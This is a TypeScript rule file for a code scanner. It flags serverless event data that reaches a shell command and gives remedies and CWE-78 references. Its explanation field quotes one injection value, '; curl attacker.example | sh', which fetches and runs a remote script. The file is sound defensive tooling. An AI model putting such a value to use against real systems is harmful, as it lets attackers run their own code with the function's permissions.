import { definePolicy } from '../../definition.js';
import { flowProblems } from '../../flow-problems.js';

export default definePolicy({
  id: 'event-to-os-command',
  threat: 'event-injection',
  title: 'Event data reaches a shell',
  several: ['calls', 'pass event data to a shell'],
  severity: 'critical',
  why: 'A value such as `; curl attacker.example | sh` becomes a command that runs with the permissions of the function.',
  remedy:
    'Run the program without a shell: `execFile` or `subprocess.run` with a list of arguments, and `--` before those of others.',
  acceptable: 'The text comes only from events that the same team writes.',
  references: {
    owasp: ['OW1'],
    csa: ['SAS-1'],
    cwe: ['CWE-78', 'CWE-88'],
    peers: ['detect-child-process', 'dangerous-subprocess-use', 'dangerous-system-call'],
    links: { any: ['https://nodejs.org/api/child_process.html', 'https://cwe.mitre.org/data/definitions/78.html'] },
  },

  inspect: (code) =>
    flowProblems(code, {
      dangers: ['command'],
      severity: ({ detail }) => (detail === 'argument' ? 'medium' : 'critical'),
      message: ({ detail }, name) => `${name} ${words[detail] ?? 'passes event data to a shell command'}`,
    }),
});

const words: Readonly<Record<string, string>> = {
  argument: 'passes event data to a program as an argument that can be an option',
  program: 'lets event data choose the program that it starts',
};
